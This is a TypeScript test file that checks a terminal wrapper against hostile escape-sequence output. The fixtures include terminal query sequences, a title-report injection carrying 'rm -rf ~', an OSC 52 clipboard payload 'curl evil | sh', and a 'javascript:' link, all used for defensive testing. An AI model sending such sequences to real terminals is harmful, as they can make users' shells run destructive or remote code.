import { Terminal } from '@xterm/headless'
import { describe, expect, it } from 'vitest'
import { quieten } from './quiet'
import { clipFrom, titleFrom } from './text'

const write = (t: Terminal, s: string) => new Promise<void>((done) => t.write(s, done))

// What hostile output tries: to have the terminal type, to call itself something else, to reach the clipboard.
const questions = ['\x1b[c', '\x1b[>c', '\x1b[0c', '\x1b[5n', '\x1b[6n', '\x1b[?6n', '\x1b[?15n', '\x1b[>q', '\x1b[4$p', '\x1b[?2004$p', '\x1b[14t', '\x1b[18t', '\x1b[20t', '\x1b[21t', '\x1bZ', '\x1bP$qm\x1b\\', '\x1bP$q"p\x1b\\', '\x1b]4;1;?\x07', '\x1b]10;?\x07', '\x1b]11;?\x1b\\', '\x1b]12;?\x07', '\x1b]52;c;?\x07', '\x1b[?u', '\x05', '\x9bc', '\x1bP+q544e\x1b\\']

describe('hostile output', () => {
  it('gets no answer from history, nor from a device that does not lead', async () => {
    const t = new Terminal({ allowProposedApi: true })
    const typed: string[] = []
    t.onData((d) => typed.push(d))
    t.onBinary((d) => typed.push(d))
    let quiet = true
    quieten(t.parser as never, () => quiet)
    await write(t, questions.join(''))
    expect(typed).toEqual([])
    quiet = false
    await write(t, '\x1b[6n')
    expect(typed).toHaveLength(1) // else the test would prove nothing
  })

  it('never has the window told back, by whomever it is asked: a title would be typed', async () => {
    const t = new Terminal({ allowProposedApi: true })
    const typed: string[] = []
    t.onData((d) => typed.push(d))
    quieten(t.parser as never, () => false)
    await write(t, '\x1b]0;rm -rf ~\r\x07\x1b[21t\x1b[20t\x1b]52;c;?\x07\x1bP+q544e\x1b\\')
    expect(typed.join('')).not.toContain('rm')
    expect(typed).toEqual([])
  })

  it('names itself in one seen line', async () => {
    const t = new Terminal({ allowProposedApi: true })
    const titles: string[] = []
    t.onTitleChange((x) => titles.push(titleFrom(x)))
    await write(t, `\x1b]0;Carrel \u202eelbatsurt\x07\x1b]2;${'x'.repeat(5000)}\x07`)
    expect(titles[0]).toBe('Carrel elbatsurt')
    expect(titles[1]).toHaveLength(60)
  })

  it('reaches the clipboard only by way of an offer', async () => {
    const t = new Terminal({ allowProposedApi: true })
    const offers: (string | null)[] = []
    t.parser.registerOscHandler(52, (d) => (offers.push(clipFrom(d)), true))
    await write(t, `\x1b]52;c;${btoa('curl evil | sh\n')}\x07`)
    expect(offers).toEqual(['curl evil | sh\n'])
  })

  it('is taken whatever it is', async () => {
    const t = new Terminal({ allowProposedApi: true, scrollback: 100 })
    for (const s of ['\x1b[99999999999;1H', '\x1b[2147483647b', '\x1b[1;99999r', '\x1b]', '\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07', '\x1bP'.repeat(100), '\x1b[' + ';'.repeat(5000) + 'm', '\u0300'.repeat(2000), '\xff\xfe', '\x1b[?1049h\x1b[3J\x1bc', '\x1b#8', '\x1b[200h\x1b[?9999h', '\x18\x1a\x1b\\']) await write(t, s)
    await write(t, '\x1b\\\x1bcstill here')
    expect(t.buffer.active.getLine(0)?.translateToString(true)).toBe('still here')
  })
})
